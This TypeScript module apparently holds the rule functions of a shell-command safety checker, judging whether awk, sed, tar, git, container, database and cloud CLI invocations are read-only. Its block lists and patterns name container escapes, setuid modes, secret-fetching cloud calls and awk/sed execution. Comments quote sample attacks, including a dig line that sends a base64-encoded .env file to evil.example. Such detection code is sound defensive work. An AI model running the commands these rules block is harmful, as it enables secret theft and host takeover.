import type { ParsedArgs, ParsedFlag } from './args';
import type { Check, CheckInput } from './check-input';
import { CLIENT_FORM_CHECKS } from './client-forms';
import { READ_FORM_CHECKS } from './read-forms';
import { normalizePath } from './script';
import type { ShellWord } from './words';

export type { Check, CheckInput } from './check-input';

/** Whether the option as written is `name` or an abbreviation of it (`--expr` for `--expression`). */
function isOption(written: string, name: string): boolean {
  return written === name || (written.startsWith('--') && written.length >= 3 && name.startsWith('--') && name.startsWith(written));
}

/** Values of the named options; abbreviated long options count, since these checks look for danger. */
function flagValues(flags: readonly ParsedFlag[], names: readonly string[]): ShellWord[] {
  return flags.filter((f) => names.some((n) => isOption(f.name, n)) && f.value).map((f) => f.value as ShellWord);
}

/** awk programs that run commands, write files, open network sockets or load extensions. */
export function awkProgramIsUnsafe(program: string): boolean {
  // Strip string literals' escaped quotes only; a `>` or `|` inside a string is rare enough to ask about.
  if (/\bsystem\s*\(/.test(program)) return true;
  if (/(^|[^|])\|(?!\|)/.test(program)) return true; // "cmd" | getline, print | "cmd", |&
  if (/\bprintf?\b[^;{}\n]*>/.test(program)) return true; // print > "file"
  if (/\/inet6?\d?\//.test(program)) return true;
  if (/@(load|include)\b/.test(program)) return true;
  // gawk's indirect calls (`f = "system"; @f("id")`) reach built-ins by a name held in a variable.
  if (/@[A-Za-z_][A-Za-z0-9_]*\s*\(/.test(program)) return true;
  return false;
}

function awkUnsafe({ args }: CheckInput): boolean {
  const sources = flagValues(args.flags, ['-e', '--source']);
  const programs = sources.length > 0 ? sources : args.positionals.slice(0, 1);
  return programs.some((w) => !w.static || awkProgramIsUnsafe(w.text));
}

/** sed scripts with commands that execute (`e`, `s///e`) or write files (`w`, `W`, `s///w`). */
export function sedScriptIsUnsafe(script: string): boolean {
  const n = script.length;
  let i = 0;
  const skipSpace = (): void => {
    while (i < n && /\s/.test(script[i] as string)) i++;
  };
  const skipDelimited = (delim: string): boolean => {
    // Advance past text up to an unescaped `delim`; false when it never closes.
    while (i < n) {
      const c = script[i] as string;
      if (c === '\\') i += 2;
      else if (c === delim) {
        i++;
        return true;
      } else if (c === '\n' && delim !== '\n') return false;
      else i++;
    }
    return false;
  };
  const skipAddress = (): void => {
    skipSpace();
    const c = script[i];
    if (c === undefined) return;
    if (/[0-9]/.test(c)) {
      while (i < n && /[0-9~]/.test(script[i] as string)) i++;
    } else if (c === '$') i++;
    else if (c === '/') {
      i++;
      skipDelimited('/');
      while (i < n && /[IM]/.test(script[i] as string)) i++;
    } else if (c === '\\' && i + 1 < n) {
      const delim = script[i + 1] as string;
      i += 2;
      skipDelimited(delim);
    } else if (c === '+' || c === '~') {
      i++;
      while (i < n && /[0-9]/.test(script[i] as string)) i++;
    }
  };
  const skipToLineEnd = (): void => {
    while (i < n && script[i] !== '\n') i++;
  };
  while (i < n) {
    while (i < n && /[\s;{}!]/.test(script[i] as string)) i++;
    if (i >= n) break;
    skipAddress();
    skipSpace();
    if (script[i] === ',') {
      i++;
      skipAddress();
    }
    while (i < n && /[\s!]/.test(script[i] as string)) i++;
    const cmd = script[i];
    if (cmd === undefined) break;
    i++;
    switch (cmd) {
      case 'e':
      case 'w':
      case 'W':
        return true;
      case 's': {
        const delim = script[i];
        if (delim === undefined || delim === '\n' || delim === '\\') return true;
        i++;
        if (!skipDelimited(delim) || !skipDelimited(delim)) return true;
        while (i < n && /[gpiImMe0-9w]/.test(script[i] as string)) {
          if (script[i] === 'e' || script[i] === 'w') return true;
          i++;
        }
        break;
      }
      case 'y': {
        const delim = script[i];
        if (delim === undefined) return true;
        i++;
        if (!skipDelimited(delim) || !skipDelimited(delim)) return true;
        break;
      }
      case 'a':
      case 'i':
      case 'c':
      case 'r':
      case 'R':
      case '#':
        skipToLineEnd();
        break;
      case 'b':
      case 't':
      case 'T':
      case ':':
        while (i < n && script[i] !== ';' && script[i] !== '\n') i++;
        break;
      case 'q':
      case 'Q':
      case 'l':
      case 'L':
        while (i < n && /[\s0-9]/.test(script[i] as string) && script[i] !== '\n') i++;
        break;
      case '}':
      case '{':
        break;
      default:
        if (!'pPdDnNgGhHx=zF'.includes(cmd)) return true;
    }
  }
  return false;
}

function sedUnsafe({ args }: CheckInput): boolean {
  const expressions = flagValues(args.flags, ['-e', '--expression']);
  const scripts = expressions.length > 0 ? expressions : args.positionals.slice(0, 1);
  return scripts.some((w) => !w.static || sedScriptIsUnsafe(w.text));
}

/**
 * Files a sed or awk program reads by name (`sed 'r shadow'`, `awk '{getline l < "shadow"}'`).
 * Absolute paths are found anyway; relative ones resolve against the working directory,
 * so `cd /etc && sed 'r shadow' x` must be caught here.
 */
export function scriptFileOperands(program: string, text: string): string[] {
  const out: string[] = [];
  if (program === 'sed') {
    for (const m of text.matchAll(/(?:^|[;\n{}0-9$/!,]|\s)\s*[rRwW] *([^\n]+)/g)) out.push((m[1] as string).trim());
  } else if (program === 'awk') {
    for (const m of text.matchAll(/<\s*"([^"]+)"/g)) out.push(m[1] as string);
  }
  return out.filter((f) => f && !f.startsWith('/'));
}

/** A file mode that sets the setuid or setgid bit (`u+s`, `g+s`, `4755`, `6777`). */
export function modeSetsSetuid(mode: string): boolean {
  if (/^[0-7]+$/.test(mode)) return mode.length >= 4 && (parseInt(mode.slice(-4, -3), 8) & 0o6) !== 0;
  return mode.split(',').some((clause) => /^[ugoa]*[-+=]/.test(clause) && /[+=][rwxXtugo]*s/.test(clause));
}

function setsSetuid({ program, args }: CheckInput): boolean {
  const modes = flagValues(args.flags, ['-m', '--mode']);
  if (program === 'chmod' && args.positionals[0]) modes.push(args.positionals[0]);
  // `chmod -s` style modes parse as flags: `-s` would clear, `+s` is positional.
  return modes.some((w) => !w.static || modeSetsSetuid(w.text));
}

/** Host paths that give a container root on the host: system trees (or anything in them), or whole top-level directories. */
const HOST_PATHS_GRANTING_ROOT = /^\/(?:(?:etc|root|boot|bin|sbin|lib|lib32|lib64|usr|proc|sys|dev|var\/run\/docker\.sock|run\/docker\.sock|var\/lib\/docker|var\/lib\/kubelet|var\/lib\/containerd|var\/spool\/cron)(?:\/.*)?|var|opt|srv|home|run|var\/lib|var\/run|mnt|media)?$|\/\.ssh(?:\/|$)/;

/** Container options that hand the host to the container: privileged mode, host namespaces, host mounts. */
function containerEscapes({ args }: CheckInput): boolean {
  for (const f of args.flags) {
    const value = f.value?.text ?? '';
    switch (f.name) {
      case '--privileged':
      case '--cap-add':
      case '--device':
        return true;
      case '--pid':
      case '--ipc':
      case '--userns':
      case '--uts':
      case '--cgroupns':
        if (value === 'host') return true;
        break;
      case '--security-opt':
        if (/unconfined|label[=:]disable|no-new-privileges[=:]false/.test(value)) return true;
        break;
      case '-v':
      case '--volume': {
        if (!f.value) break;
        const host = value.split(':')[0] ?? '';
        if (host.startsWith('/') && HOST_PATHS_GRANTING_ROOT.test(normalizePath(host))) return true;
        if (!f.value.static) return true;
        break;
      }
      case '--mount': {
        if (!f.value) break;
        const source = /(?:^|,)(?:source|src)=([^,]+)/.exec(value)?.[1];
        if (source && source.startsWith('/') && HOST_PATHS_GRANTING_ROOT.test(normalizePath(source))) return true;
        if (!f.value.static) return true;
        break;
      }
      default:
    }
  }
  return false;
}

const TAR_MODES: Record<string, 'list' | 'other'> = {
  t: 'list',
  d: 'list',
  c: 'other',
  x: 'other',
  r: 'other',
  u: 'other',
  A: 'other',
};
const TAR_LONG_MODES: Record<string, 'list' | 'other'> = {
  '--list': 'list',
  '--diff': 'list',
  '--compare': 'list',
  '--create': 'other',
  '--extract': 'other',
  '--get': 'other',
  '--append': 'other',
  '--update': 'other',
  '--catenate': 'other',
  '--concatenate': 'other',
  '--delete': 'other',
};
const TAR_EXEC_OPTIONS = ['--to-command', '-I', '--use-compress-program', '--checkpoint-action', '--rsh-command', '--rmt-command', '-F', '--info-script', '--new-volume-script', '--index-file', '-g', '--listed-incremental'];

/** tar that only lists or compares an archive, with no option that runs programs or writes. */
function tarListsOnly({ args }: CheckInput): boolean {
  let mode: 'list' | 'other' | null = null;
  const first = args.words[0];
  if (first && first.static && !first.text.startsWith('-') && /^[A-Za-z]+$/.test(first.text)) {
    // Old-style bundled options: `tar tvf x.tar`. Their letters take the following words as
    // values (`tar tIf 'sh -c id' x.tar` runs a compressor), so only plain listing letters pass.
    if (!/^[tdvfzjJZaOpPsSwWkmBinl]+$/.test(first.text) || /[IFgT]/.test(first.text)) return false;
    for (const c of first.text) if (TAR_MODES[c]) mode = mode === 'other' ? 'other' : (TAR_MODES[c] as 'list' | 'other');
  }
  for (const f of args.flags) {
    const short = f.name.length === 2 ? TAR_MODES[f.name.slice(1)] : undefined;
    const long = TAR_LONG_MODES[f.name];
    const m = short ?? long;
    if (m) mode = mode === 'other' ? 'other' : m;
    const abbreviates = f.name.startsWith('--') && f.name.length >= 3 && !(f.name in TAR_LONG_MODES) && TAR_EXEC_OPTIONS.some((o) => o.startsWith(f.name));
    if (TAR_EXEC_OPTIONS.includes(f.name) || abbreviates) return false;
  }
  const archives = flagValues(args.flags, ['-f', '--file']);
  if (archives.some((a) => /^[^/]*:/.test(a.text))) return false; // host:archive runs rsh/ssh
  return mode === 'list';
}

/**
 * iproute2 (ip, bridge, tc) accepts any prefix of a command word and resolves it in
 * source order, so `ip l s` is `link set`, not `show`. A command is read-only only
 * when its word is a prefix of a read verb and of no verb that changes anything.
 */
const IPROUTE_READ_VERBS = ['show', 'list', 'lst', 'get', 'help', 'monitor', 'showdump', 'save'];
const IPROUTE_WRITE_VERBS = ['add', 'append', 'prepend', 'change', 'chg', 'replace', 'delete', 'del', 'flush', 'restore', 'exec', 'attach', 'detach', 'update', 'test', 'identify', 'pids', 'reset', 'create', 'destroy', 'bind', 'unbind'];
/** Objects whose command table tries `set` before `show`, so `s` means set. */
const IPROUTE_SET_FIRST = ['link', 'netns', 'token', 'vrf', 'tcp_metrics', 'tcpmetrics', 'dev'];

function prefixOfAny(word: string, verbs: readonly string[]): boolean {
  return verbs.some((v) => v.startsWith(word));
}

function iprouteReadOnly({ args }: CheckInput): boolean {
  const [object, command, ...rest] = args.positionals;
  if (!object) return true;
  if (!object.static) return false;
  // `ip monitor` and `ip help` have no command word.
  if (prefixOfAny(object.text, ['monitor', 'help']) && object.text.length >= 2) return true;
  if (!command) return true;
  if (!command.static) return false;
  const verb = command.text;
  const writes = prefixOfAny(object.text, IPROUTE_SET_FIRST) ? [...IPROUTE_WRITE_VERBS, 'set'] : IPROUTE_WRITE_VERBS;
  if (!prefixOfAny(verb, IPROUTE_READ_VERBS) || prefixOfAny(verb, writes) || verb === 'set') return false;
  return !rest.some((w) => writes.includes(w.text) || w.text === 'set');
}

/**
 * nmcli also takes prefixes (`nmcli c u` is `connection up`). Read-only forms: an object
 * with no command or a show/status/list command, and the read-only corners of general,
 * networking and radio.
 */
const NMCLI_OBJECTS = ['general', 'networking', 'radio', 'connection', 'device', 'agent', 'monitor', 'help'];
const NMCLI_READ_COMMANDS = ['show', 'status', 'list', 'help', 'monitor', 'permissions', 'connectivity', 'lldp'];
const NMCLI_WRITE_COMMANDS = ['up', 'down', 'add', 'modify', 'clone', 'edit', 'delete', 'reload', 'load', 'import', 'export', 'set', 'connect', 'reapply', 'disconnect', 'wifi', 'hostname', 'logging', 'on', 'off', 'all', 'wwan', 'reload', 'rescan', 'hotspot', 'migrate', 'secret', 'polkit'];

function nmcliReadOnly({ args }: CheckInput): boolean {
  const words = args.positionals;
  if (words.some((w) => !w.static)) return false;
  const [object, command, ...rest] = words.map((w) => w.text);
  if (object === undefined) return true;
  const objectName = NMCLI_OBJECTS.find((o) => o.startsWith(object));
  if (!objectName) return false;
  if (objectName === 'monitor' || objectName === 'help') return true;
  if (command === undefined) return true;
  if (objectName === 'radio') {
    // `nmcli radio wifi` shows the switch; a following on/off flips it.
    return prefixOfAny(command, ['all', 'wifi', 'wwan']) && rest.length === 0;
  }
  if (objectName === 'general') {
    if (prefixOfAny(command, ['hostname', 'logging'])) return rest.length === 0;
    return prefixOfAny(command, ['status', 'permissions', 'help']) && !prefixOfAny(command, ['reload']);
  }
  if (objectName === 'networking') {
    return prefixOfAny(command, ['connectivity']) && rest.every((w) => prefixOfAny(w, ['check']));
  }
  if (objectName === 'device' && prefixOfAny(command, ['wifi']) && command.length >= 1) {
    const sub = rest[0];
    return sub === undefined || (prefixOfAny(sub, ['list']) && !prefixOfAny(sub, ['connect', 'hotspot', 'rescan', 'show-password']));
  }
  if (!prefixOfAny(command, NMCLI_READ_COMMANDS) || prefixOfAny(command, NMCLI_WRITE_COMMANDS)) return false;
  return !rest.some((w) => NMCLI_WRITE_COMMANDS.includes(w) || w === 'show-password' || w === '--show-secrets');
}

/**
 * git options before the subcommand that make it run other programs: `-c key=value`
 * (core.pager, core.sshCommand, alias.x=!cmd), `--config-env`, `--exec-path`. The same
 * letters after the subcommand mean harmless things (`git shortlog -c`).
 */
const GIT_GLOBAL_VALUE_OPTIONS = new Set(['-C', '-c', '--git-dir', '--work-tree', '--namespace', '--super-prefix', '--config-env', '--exec-path', '--list-cmds', '--attr-source']);
const GIT_GLOBAL_EXEC_OPTIONS = ['-c', '--config-env', '--exec-path'];

function gitGlobalExec({ args }: CheckInput): boolean {
  const words = args.words;
  for (let i = 0; i < words.length; i++) {
    const text = (words[i] as ShellWord).text;
    if (!text.startsWith('-')) return false;
    const name = text.split('=')[0] as string;
    if (GIT_GLOBAL_EXEC_OPTIONS.includes(name) && (name !== '--exec-path' || text.includes('='))) return true;
    if (GIT_GLOBAL_VALUE_OPTIONS.has(name) && !text.includes('=')) i++;
  }
  return false;
}

/** Options through which curl and wget write a file (the download, a log, messages). */
const OUTPUT_OPTIONS: Record<string, string[]> = {
  curl: ['-o', '--output', '--stderr'],
  ncdu: ['-o'],
  wget: ['-O', '--output-document', '-o', '--output-file', '-a', '--append-output'],
};
const DISCARDED_OUTPUT = new Set(['-', '/dev/null', '/dev/stdout', '/dev/stderr']);

/**
 * Some output option names a real file. Every one is looked at: with `-o /dev/null -o /tmp/x`
 * a rule that only asks whether /dev/null appears somewhere would miss the file.
 */
function writesOutputFile({ program, args }: CheckInput): boolean {
  const names = OUTPUT_OPTIONS[program] ?? [];
  return flagValues(args.flags, names).some((v) => !v.static || !DISCARDED_OUTPUT.has(v.text));
}

/**
 * Options come before operands, as bash builtins and POSIX getopt read them: `kill 1 -l`
 * sends a signal to process 1 and only then fails on `-l`.
 */
function optionsBeforeOperands({ args }: CheckInput): boolean {
  let operandSeen = false;
  for (const w of args.words) {
    if (!w.static) return false;
    if (w.text === '--') return true;
    if (w.text.startsWith('-') && w.text.length > 1) {
      if (operandSeen) return false;
    } else operandSeen = true;
  }
  return true;
}

/**
 * Command words that take any unambiguous prefix (mysqladmin, parted): read-only only when
 * every word is a prefix of a read command and of no command that changes anything.
 */
function prefixCommandsReadOnly(words: readonly ShellWord[], read: readonly string[], write: readonly string[], operand: RegExp): boolean {
  for (const w of words) {
    if (!w.static) return false;
    const t = w.text;
    if (operand.test(t) && !prefixOfAny(t, write)) continue;
    if (!prefixOfAny(t, read) || prefixOfAny(t, write)) return false;
  }
  return true;
}

const MYSQLADMIN_READ = ['status', 'extended-status', 'processlist', 'variables', 'version', 'ping'];
const MYSQLADMIN_WRITE = ['create', 'debug', 'drop', 'flush-hosts', 'flush-logs', 'flush-privileges', 'flush-status', 'flush-tables', 'flush-threads', 'kill', 'password', 'old-password', 'reload', 'refresh', 'shutdown', 'start-replica', 'start-slave', 'stop-replica', 'stop-slave', 'purge'];

function mysqladminReadOnly({ args }: CheckInput): boolean {
  return args.positionals.length > 0 && prefixCommandsReadOnly(args.positionals, MYSQLADMIN_READ, MYSQLADMIN_WRITE, /^$/);
}

const PARTED_READ = ['print', 'help', 'version', 'unit', 'free', 'all', 'list', 'quit'];
const PARTED_WRITE = ['align-check', 'disk_set', 'disk_toggle', 'mklabel', 'mktable', 'mkpart', 'name', 'rescue', 'resizepart', 'rm', 'select', 'set', 'toggle', 'type', 'mkfs', 'resize', 'move', 'cp', 'check'];
const PARTED_OPERANDS = /^(\/dev\/\S+|s|B|[kMGT]i?B|%|cyl|chs|compact|[0-9]+)$/;

/** parted with only devices, units and print/help words: `parted -s /dev/sda unit MiB print`. */
function partedPrintOnly({ args }: CheckInput): boolean {
  return prefixCommandsReadOnly(args.positionals, PARTED_READ, PARTED_WRITE, PARTED_OPERANDS);
}

/**
 * Configuration options of servers whose check modes load what the file says (nginx
 * load_module, HAProxy lua-load, PHP extensions, certbot hooks): files under /etc are the
 * administrator's, anything else may be anyone's.
 */
const CONFIG_OPTIONS: Record<string, string[]> = {
  nginx: ['-c', '-p'],
  haproxy: ['-f', '-C'],
  'php-fpm': ['-c', '-y', '--fpm-config', '-p', '--prefix'],
  certbot: ['-c', '--config', '--config-dir'],
  caddy: ['--config'],
  mysqladmin: ['--defaults-file', '--defaults-extra-file', '--plugin-dir'],
};
const DIRECTIVE_OPTIONS: Record<string, string[]> = { nginx: ['-g'], 'php-fpm': ['-d'], mysqladmin: ['--default-auth'] };
const ADMIN_CONFIG_DIRS = /^\/(etc|usr\/local\/etc|usr\/share|usr\/lib|usr\/local\/nginx\/conf|opt\/[^/]+\/(conf|etc))(\/|$)/;

function configFromElsewhere({ program, args }: CheckInput): boolean {
  if (flagValues(args.flags, DIRECTIVE_OPTIONS[program] ?? []).length > 0 || args.flags.some((f) => (DIRECTIVE_OPTIONS[program] ?? []).some((o) => isOption(f.name, o)))) return true;
  return flagValues(args.flags, CONFIG_OPTIONS[program] ?? []).some((v) => !v.static || !v.text.startsWith('/') || !ADMIN_CONFIG_DIRS.test(normalizePath(v.text)));
}

/**
 * Some argument is only known at run time. For programs that send their arguments to
 * another host (a DNS name, a ping target, a URL), that is how data leaves unseen:
 * `dig "$(base64 -w0 /srv/app/.env | cut -c1-60).evil.example"`.
 */
function hasRuntimeArgument({ args }: CheckInput): boolean {
  return args.words.some((w) => !w.static);
}

/** Hosts a database client may talk to without its stored passwords leaving the machine. */
const LOCAL_HOSTS = /^(localhost|127\.0\.0\.1|::1|\[::1\]|\/.*)$/;
const HOST_OPTIONS = ['-h', '--host', '--hostname'];

/**
 * A database client pointed at another host: it hands that host the passwords it reads
 * from ~/.pgpass, ~/.my.cnf or REDISCLI_AUTH (PostgreSQL even in clear text when asked).
 */
function remoteDatabaseHost({ args }: CheckInput): boolean {
  if (flagValues(args.flags, HOST_OPTIONS).some((v) => !v.static || !LOCAL_HOSTS.test(v.text))) return true;
  // Connection strings and URIs: host=..., postgresql://..., redis://...
  return args.words.some((w) => !w.static || /(^|\s)host\s*=|^[a-z]+(\+[a-z]+)?:\/\//i.test(w.text));
}

/**
 * mysql -e with only SHOW and DESCRIBE statements: they cannot change anything or run
 * programs (no SELECT: functions like LOAD_FILE and sys_exec read files or run code,
 * and no client commands such as `system` or `\!`). SHOW CREATE USER prints password hashes.
 */
function sqlShowOnly({ args }: CheckInput): boolean {
  const scripts = flagValues(args.flags, ['-e', '--execute']);
  if (scripts.length === 0) return false;
  return scripts.every((w) => {
    if (!w.static || /\\|`/.test(w.text)) return false;
    const statements = w.text.split(';').map((x) => x.trim()).filter(Boolean);
    // No parentheses, comments or WHERE: SHOW ... WHERE f() and DESCRIBE (EXPLAIN) of a
    // subquery evaluate functions; /*! ... */ is executable in MySQL; ANALYZE runs the query.
    return statements.length > 0 && statements.every((st) => /^(show|describe|desc)\s/i.test(`${st} `) && !/[()#]|\/\*|--|\b(into|outfile|dumpfile|where|analyze|select)\b/i.test(st) && !/^show\s+create\s+user\b/i.test(st));
  });
}

/** Redis commands that only report server state or key metadata (no values: sessions and tokens live there). */
const REDIS_READ = new Set(['info', 'ping', 'dbsize', 'time', 'lastsave', 'role', 'type', 'ttl', 'pttl', 'exists', 'scan', 'strlen', 'llen', 'scard', 'zcard', 'hlen', 'xlen', 'echo']);
const REDIS_READ_SUB: Record<string, string[]> = {
  client: ['list', 'info', 'getname', 'id'],
  slowlog: ['get', 'len'],
  memory: ['stats', 'doctor', 'usage', 'malloc-stats'],
  latency: ['latest', 'doctor', 'history', 'histogram'],
  cluster: ['info', 'nodes', 'slots', 'shards', 'myid', 'keyslot', 'countkeysinslot'],
  command: ['count', 'info', 'docs', 'list'],
  module: ['list'],
  object: ['encoding', 'freq', 'idletime', 'refcount'],
  xinfo: ['groups', 'consumers'],
  config: ['get'],
};
const REDIS_READ_FLAGS = ['--scan', '--bigkeys', '--memkeys', '--hotkeys', '--stat', '--latency', '--latency-history', '--latency-dist', '--version', '-v'];

function redisReadOnly({ args }: CheckInput): boolean {
  const words = args.positionals;
  if (words.some((w) => !w.static)) return false;
  const [first, second, ...rest] = words.map((w) => w.text.toLowerCase());
  if (first === undefined) return args.flags.some((f) => REDIS_READ_FLAGS.includes(f.name));
  if (REDIS_READ.has(first)) return true;
  const subs = REDIS_READ_SUB[first];
  if (!subs || second === undefined || !subs.includes(second)) return false;
  // CONFIG GET of anything that holds a password is a credential read.
  return !(first === 'config' && rest.some((r) => /pass|auth|user|\*/.test(r)));
}

/** After -t/-l, a compressor given -z or -d switches to that mode: the last mode wins. */
function compressModeAfterTest({ args }: CheckInput): boolean {
  let tested = false;
  for (const f of args.flags) {
    if (['-t', '--test', '-l', '--list'].some((o) => isOption(f.name, o))) tested = true;
    else if (tested && ['-z', '--compress', '-d', '--decompress', '--uncompress'].some((o) => isOption(f.name, o))) return true;
  }
  return false;
}

/**
 * Cloud CLIs: read-only calls are describe-/list-/get- (aws) or list/describe (gcloud),
 * list/show (az). Names that fetch secrets, keys or tokens, or that return user data,
 * function code or object contents, are excluded whatever their verb.
 */
const CLOUD_SECRET_WORDS = /secret|password|passwd|credential|token|login|keys?($|-)|key-pair|private|decrypt|sas|connection-?string|appsettings|auth|kubeconfig|console|user-?data|function|task-definition|launch-template|object|download|export|parameter|vault|certificate|cert\b|signing|session|federation|access|item|record|message/i;
const CLOUD_FORBIDDEN_FLAGS = ['--with-decryption', '--cli-input-json', '--cli-input-yaml', '--debug', '--log-http', '--access-token-file', '--impersonate-service-account', '--endpoint-url', '--cli-binary-format', '--outfile'];

/**
 * aws `get-*` calls allowed by name, per service: a `get-` verb is no promise of harmlessness
 * (`ec2 get-password-data`, `ssm get-parameter`, `lambda get-function-configuration` print secrets).
 */
const AWS_READ_GETS: Record<string, readonly string[]> = {
  sts: ['get-caller-identity'],
  iam: ['get-user', 'get-role', 'get-group', 'get-policy', 'get-policy-version', 'get-account-summary', 'get-instance-profile', 'get-role-policy', 'get-user-policy', 'get-group-policy', 'get-account-password-policy'],
  s3api: ['get-bucket-location', 'get-bucket-versioning', 'get-bucket-tagging', 'get-bucket-policy-status', 'get-bucket-encryption', 'get-bucket-lifecycle-configuration', 'get-bucket-acl', 'get-bucket-policy', 'get-public-access-block'],
  cloudwatch: ['get-metric-statistics', 'get-metric-data', 'get-dashboard'],
  ec2: ['get-ebs-encryption-by-default', 'get-instance-types-from-instance-requirements'],
  eks: [],
  elbv2: [],
  route53: ['get-hosted-zone', 'get-change', 'get-health-check', 'get-health-check-status'],
  autoscaling: [],
  cloudformation: ['get-template-summary'],
  ce: ['get-cost-and-usage', 'get-cost-forecast'],
  organizations: [],
};
/** Services whose describe/list answers carry secrets (lambda's list-functions returns each function's environment). */
const AWS_SECRET_LISTS: Record<string, readonly string[]> = {
  lambda: ['list-functions', 'list-versions-by-function'],
  ecs: ['describe-task-definition'],
  batch: ['describe-job-definitions'],
};
/** Command-path words of gcloud and az that change things: the read verb must come before any of them. */
const CLOUD_ACTION_WORDS = new Set('create delete remove update set add start stop restart reset resize move deploy import export attach detach enable disable patch apply run ssh scp copy cp rm mv purge destroy terminate kill cancel submit upload download rollback promote execute exec invoke call send publish login logout revoke grant suspend resume abandon recreate rename replace clear wipe unset assign unassign connect disconnect install uninstall upgrade scale failover restore snapshot backup generate regenerate rotate sign encrypt decrypt approve reject reboot redeploy swap sync tag untag lock unlock activate deactivate print-access-token print-identity-token get-credentials'.split(' '));
const CLOUD_GROUP_SECRET_WORDS = /secret|password|passwd|credential|token|login|keys?($|-)|key-pair|private|decrypt|sas|connection-?string|appsettings|kubeconfig|console|user-?data|vault|certificate|cert\b|signing|session|federation|access/i;

function cloudCliReadOnly({ program, args }: CheckInput): boolean {
  if (args.words.some((w) => !w.static)) return false;
  if (args.flags.some((f) => CLOUD_FORBIDDEN_FLAGS.some((o) => isOption(f.name, o)))) return false;
  const p = args.positionals.map((w) => w.text);
  // Help: `aws help`, `aws s3 help`, `aws ec2 describe-instances help`; gcloud and az print help for -h/--help before anything runs.
  if (program === 'aws' && p.length >= 1 && p.length <= 3 && p[p.length - 1] === 'help' && p.slice(0, -1).every((w) => /^[a-z0-9][a-z0-9-]*$/.test(w))) return true;
  if (program !== 'aws' && args.flags.some((f) => f.name === '-h' || f.name === '--help')) return true;
  if (program !== 'aws' && p.length >= 1 && p[p.length - 1] === 'help' && p.every((w) => /^[a-z][a-z0-9-]*$/.test(w) && !CLOUD_ACTION_WORDS.has(w))) return true;
  // Option values too: `describe-instance-attribute --attribute userData` returns the user data.
  if (args.words.some((w) => /user-?data|secret|password|token/i.test(w.text))) return false;
  if (program === 'aws') {
    const [service, op, ...rest] = p;
    if (!service || !op) return false;
    if (service === 's3') return op === 'ls' && rest.length <= 1;
    if (service === 'configure') return (op === 'list' || op === 'list-profiles') && rest.length === 0;
    if (rest.length > 0) return false;
    if (AWS_SECRET_LISTS[service]?.includes(op)) return false;
    if (op.startsWith('get-')) return (AWS_READ_GETS[service] ?? []).includes(op);
    if (service === 'lambda' && /^list-(aliases|event-source-mappings|layers|tags)$/.test(op)) return true;
    return /^(describe|list)-[a-z0-9-]+$/.test(op) && !CLOUD_SECRET_WORDS.test(service) && !CLOUD_SECRET_WORDS.test(op);
  }
  if (program === 'gcloud' && p.length === 2 && p[0] === 'auth' && p[1] === 'list') return true;
  if (program === 'gcloud' && p.length === 2 && p[0] === 'config' && p[1] === 'list') return true;
  const verbs = program === 'gcloud' ? ['list', 'describe'] : ['list', 'show'];
  // The verb is the command path (group words, then the command), never an operand after it:
  // `gcloud compute instances delete web-1 list` deletes.
  let at = -1;
  for (let i = 0; i < p.length; i++) {
    const w = p[i] as string;
    if (verbs.includes(w)) { at = i; break; }
    if (!/^[a-z][a-z-]*$/.test(w) || CLOUD_ACTION_WORDS.has(w) || w.startsWith('get-') || w.startsWith('print-')) return false;
  }
  if (at < 1) return false;
  const group = p.slice(0, at);
  const after = p.slice(at + 1);
  if (group.some((w) => CLOUD_GROUP_SECRET_WORDS.test(w))) return false;
  return p[at] === verbs[0] ? after.length === 0 : after.length <= 1;
}

export const CHECKS: Record<string, Check> = {
  cloud_cli_read_only: cloudCliReadOnly,
  compress_mode_after_test: compressModeAfterTest,
  sql_show_only: sqlShowOnly,
  redis_read_only: redisReadOnly,
  has_runtime_argument: hasRuntimeArgument,
  remote_database_host: remoteDatabaseHost,
  config_from_elsewhere: configFromElsewhere,
  options_before_operands: optionsBeforeOperands,
  mysqladmin_read_only: mysqladminReadOnly,
  parted_print_only: partedPrintOnly,
  writes_output_file: writesOutputFile,
  git_global_exec: gitGlobalExec,
  iproute_read_only: iprouteReadOnly,
  nmcli_read_only: nmcliReadOnly,
  awk_program_unsafe: awkUnsafe,
  sed_script_unsafe: sedUnsafe,
  mode_sets_setuid: setsSetuid,
  container_escapes: containerEscapes,
  tar_lists_only: tarListsOnly,
  ...READ_FORM_CHECKS,
  ...CLIENT_FORM_CHECKS,
};
